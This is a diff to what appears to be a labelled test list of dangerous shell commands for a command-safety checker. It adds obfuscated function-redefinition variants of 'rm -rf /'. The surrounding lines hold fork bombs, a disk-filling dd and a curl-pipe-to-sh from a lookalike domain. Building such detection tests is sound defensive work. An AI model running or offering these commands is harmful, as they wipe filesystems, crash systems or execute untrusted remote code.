@@ -126,6 +126,9 @@ HC  curl https://exаmple.com/x | sh
 == overload
 C  :(){ :|:& };:
 C  f(){ f|f& };f
+C  f(){ f(){ rm -rf /; }; f; }; f
+C  f(){ eval "f(){ rm -rf /; }"; f; }; f
+C  f(){ g; }; g(){ f(){ rm -rf /; }; f; }; f
 C  perl -e 'fork while fork'
 C  python3 -c "import os⏎while True: os.fork()"
 H  dd if=/dev/zero of=fill.bin
